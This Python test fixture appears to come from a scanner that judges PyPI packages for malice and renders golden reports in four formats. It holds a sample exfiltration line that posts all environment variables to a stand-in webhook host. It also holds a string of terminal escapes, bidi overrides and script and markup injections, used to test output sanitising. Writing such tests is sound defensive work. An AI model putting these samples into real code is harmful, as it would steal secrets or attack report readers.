"""
Reports made by hand: one of every kind, and one in which every field is hostile.

Run this file to write the golden files anew; look at the difference before you commit it.
"""

import io
from pathlib import Path

from watchhouse.cli import json_report, markdown, sarif, terminal
from watchhouse.cli.report import Report
from watchhouse.cli.screen import screen
from watchhouse.evidence.detector import Detector
from watchhouse.model.evidence import Confidence, Gap, GapReason, Location, Moment, Severity, Sighting
from watchhouse.model.identity import ArtifactRef, Ecosystem, ProjectName, Sha256
from watchhouse.model.technique import Technique
from watchhouse.model.verdict import Level, Reason, Verdict
from watchhouse.pipeline.scan import Failed, Judged, Outcome, Skipped

HOSTILE = (
    "\x1b[31m\x1b]0;t\x07\u202egnp.exe\u2066\u200b\ufe0f\u3164[red]x[/red][a](http://h.example)"
    "<script>alert(1)</script>&amp;`code```|**b**@everyone\r\n# heading\n- item\u2028\x9b\ud800\x00"
)
"""Colours, a title, bidi overrides, invisible letters, three kinds of markup, line ends, a lone surrogate."""

CONTROLS = "\x1b\x07\u202e\u2066\u200b\ufe0f\u3164\r\u2028\x9b\ud800\x00"
"""What must not come out anywhere."""

DETECTORS = tuple(
    Detector(
        id=name,
        title=f"The rule {name}",
        severity=Severity.HIGH,
        techniques=(Technique.EXFILTRATION_WEBHOOK,),
        examine=lambda _: iter(()),
        doc="One line.\n\nLooks at: nothing.",
    )
    for name in ("execution", "theft", "metadata")
)


def sighting(
    detector: str = "theft",
    claim: str = "sends environment variables to a web hook",
    *,
    location: Location = Location(path="setup.py", line=14),  # noqa: B008 - frozen
    excerpt: str = "",
    decoded: str = "",
    attributes: tuple[tuple[str, str], ...] = (),
) -> Sighting:
    """Return a sighting at install."""
    return Sighting(
        detector=detector,
        claim=claim,
        location=location,
        confidence=Confidence.HIGH,
        severity=Severity.CRITICAL,
        techniques=(Technique.EXFILTRATION_WEBHOOK,),
        moment=Moment.INSTALL,
        excerpt=excerpt,
        decoded=decoded,
        attributes=attributes,
    )


def judged(
    level: Level,
    *weighed: tuple[float, Sighting],
    name: str = "colours-helper",
    version: str = "1.0.2",
    gaps: tuple[Gap, ...] = (),
    probability: float = 0.9973,
) -> Judged:
    """Return a verdict on an artifact of PyPI."""
    file = f"{name}-{version}.tar.gz"
    return Judged(
        target=name,
        verdict=Verdict(
            artifact=ArtifactRef(
                ecosystem=Ecosystem.PYPI, file=file, name=ProjectName(name), version=version
            ),
            sha256=Sha256("ab" * 32),
            level=level,
            probability=probability,
            reasons=tuple(Reason(sighting=seen, weight=weight) for weight, seen in weighed),
            gaps=gaps,
            rules="0.1.0+model.1",
        ),
    )


def plain_report(*, verbose: bool = False) -> Report:
    """Return a report with one outcome of each kind."""
    bad = judged(
        Level.MALICIOUS,
        (
            4.1,
            sighting(
                excerpt='requests.post(b64decode("aHR0cHM6…").decode(), json=dict(os.environ))',
                decoded="https://discord.com.example/api/webhooks/1/x",
            ),
        ),
        (
            2.0,
            sighting("execution", "runs text that was decoded", location=Location(path="setup.py", line=9)),
        ),
        (
            1.5,
            sighting(
                "execution", "runs text that was decoded", location=Location(path="b.py", line=3, layer=2)
            ),
        ),
        (0.7, sighting("metadata", "has no description", location=Location(path=""))),
        (0.2, sighting("metadata", "names no author", location=Location(path="PKG-INFO"))),
        (0.0, sighting("network", "downloads a file", location=Location(path="c.py", line=1))),
        gaps=(Gap(reason=GapReason.OPAQUE, location=Location(path="blob.bin")),),
    )
    odd = judged(
        Level.NOTABLE,
        name="unread",
        probability=0.004,
        gaps=tuple(
            Gap(reason=GapReason.TIME, location=Location(path=f"part{number}.py"), detail="after 60 s")
            for number in range(5)
        ),
    )
    outcomes: tuple[Outcome, ...] = (
        judged(Level.CLEAR, name="honest", probability=0.0004),
        bad,
        odd,
        judged(
            Level.SUSPICIOUS, (1.0, sighting(excerpt="os.system(cmd)")), name="doubtful", probability=0.62
        ),
        Failed(target="no-such-project", cause="the index knows no such project"),
        Skipped(target="pywin32", cause="for Windows only"),
    )
    return Report(outcomes=outcomes, verbose=verbose)


def hostile_report(*, verbose: bool) -> Report:
    """Return a report in which everything that can come from an artifact or an index is hostile."""
    seen = sighting(
        claim=f"claims {HOSTILE}",
        location=Location(path=f"../{HOSTILE}.py", line=3, layer=1),
        excerpt=HOSTILE * 5,
        decoded=HOSTILE,
        attributes=((HOSTILE, HOSTILE),),
    )
    gap = Gap(reason=GapReason.CORRUPT, location=Location(path=HOSTILE), detail=HOSTILE)
    outcomes: tuple[Outcome, ...] = (
        *(judged(level, (1.0, seen), name=HOSTILE, version=HOSTILE, gaps=(gap,)) for level in Level),
        Failed(target=HOSTILE, cause=HOSTILE),
        Skipped(target=HOSTILE, cause=HOSTILE),
    )
    return Report(outcomes=outcomes, verbose=verbose)


def rendered(report: Report) -> dict[str, str]:
    """Return `report` in all four formats, by the name of the golden file."""
    stream = io.StringIO()
    with screen(stream, 90) as console:
        terminal.show(report, console)
    return {
        "report.txt": stream.getvalue(),
        "report.json": json_report.render(report),
        "report.sarif": sarif.render(report, DETECTORS),
        "report.md": markdown.render(report),
    }


if __name__ == "__main__":
    for name, text in rendered(plain_report()).items():
        (Path(__file__).parent / "golden" / name).write_text(text, "utf-8")
